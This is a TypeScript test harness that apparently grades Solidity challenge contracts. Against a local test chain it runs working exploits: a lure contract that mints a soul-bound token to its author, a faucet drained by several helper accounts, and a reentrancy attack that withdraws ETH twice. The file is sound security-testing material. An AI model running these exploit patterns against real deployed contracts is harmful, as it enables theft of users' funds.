import { reentrantContract } from '../../../../../lab/proofs/features/chain.js'
import type { Proof } from '../proof.js'
import { openTestChain, type Somebody } from '../test-chain.js'

const ether = 10n ** 18n
const bees = (count: bigint) => String(count * ether)

/** A contract that promises juice, and has tokens made for whoever wrote it. */
const freeJuice = `
pragma solidity ^0.8.20;
interface IToken { function safeMint(address to, string memory uri) external; }
contract FreeJuice {
    IToken private token;
    address private author;
    constructor(address target) {
        token = IToken(target);
        author = msg.sender;
    }
    function claim() public {
        token.safeMint(author, "gotcha");
    }
}
`

/** A stranger who gets a soul-bound token of the shop, alone or with a lure for its owner. */
export const mintForOneself: Proof = {
  async try({ text }) {
    const open = openTestChain()
    const [owner, customer, stranger] = [open(), open(), open()]
    const token = await owner.deploy(text, 'JuiceShopSBT')
    await owner.send(token, 'safeMint', [customer.address, 'thanks'])
    await customer.send(token, 'transferFrom', [customer.address, stranger.address, 1])
    const feature = (await owner.ask(token, 'balanceOf', [customer.address])) === 1n
    await stranger.send(token, 'safeMint', [stranger.address, 'mine'])
    await owner.send(await stranger.deploy(freeJuice, 'FreeJuice', [token]), 'claim')
    return { attack: (await owner.ask(token, 'balanceOf', [stranger.address])) > 0n, feature }
  },
}

interface Hive {
  readonly token: string
  readonly faucet: string
  readonly honeyPot: string
}

async function foundHive(source: string, founder: Somebody): Promise<Hive> {
  const token = await founder.deploy(source, 'BeeToken')
  const faucet = await founder.deploy(source, 'BeeFaucet', [token])
  const honeyPot = await founder.deploy(source, 'HoneyPotNFT', [token])
  await founder.send(token, 'transfer', [faucet, bees(100_000n)])
  return { token, faucet, honeyPot }
}

/** Takes as much at a time as the faucet gives, a few times over, and passes it on. */
async function drain({ token, faucet }: Hive, helper: Somebody, leader: Somebody): Promise<void> {
  for (let round = 0; round < 4; round += 1)
    (await helper.send(faucet, 'withdraw', [255])) || (await helper.send(faucet, 'withdraw', [100]))
  const caught = await helper.ask(token, 'balanceOf', [helper.address])
  await helper.send(token, 'transfer', [leader.address, String(caught)])
}

/** Somebody who mints a honey pot for more bees than the faucet ever had. */
export const emptyFaucetBelowZero: Proof = {
  async try({ text }) {
    const open = openTestChain()
    const founder = open()
    const hive = await foundHive(text, founder)
    const customers = [open(), open()]
    for (const { send } of customers) await send(hive.faucet, 'withdraw', [10])
    const balances = await Promise.all(customers.map(({ ask, address }) => ask(hive.token, 'balanceOf', [address])))
    const feature = balances.every((balance) => balance === 10n * ether)

    const leader = open()
    for (const helper of [open(), open(), open(), open()]) await drain(hive, helper, leader)
    await leader.send(hive.token, 'approve', [hive.honeyPot, bees(1000n)])
    return { attack: await leader.send(hive.honeyPot, 'mintNFT'), feature }
  },
}

/** True if a customer gets out in two parts what was paid in, and no more. */
async function canWithdrawInParts(bank: string, { address, ask, ether: left, send }: Somebody): Promise<boolean> {
  const before = left()
  await send(bank, 'ethdeposit', [address], ether / 10n)
  await send(bank, 'withdraw', [String(ether / 25n)])
  await send(bank, 'withdraw', [String((ether * 3n) / 50n)])
  const cannotGoOn = !(await send(bank, 'withdraw', [1]))
  return left() === before && (await ask(bank, 'balanceOf', [address])) === 0n && cannotGoOn
}

/** A contract that withdraws again while it is being paid. */
export const withdrawTwice: Proof = {
  async try({ text }) {
    const open = openTestChain()
    const [founder, customer, thief] = [open(), open(), open()]
    const bank = await founder.deploy(text, 'ETHWalletBank')
    await founder.send(bank, 'ethdeposit', [founder.address], ether / 2n)
    const feature = await canWithdrawInParts(bank, customer)
    const before = thief.ether()
    const tool = await thief.deploy(reentrantContract, 'Attacker', [bank])
    await thief.send(tool, 'attack', [], ether / 10n)
    await thief.send(tool, 'collect')
    return { attack: thief.ether() > before, feature }
  },
}
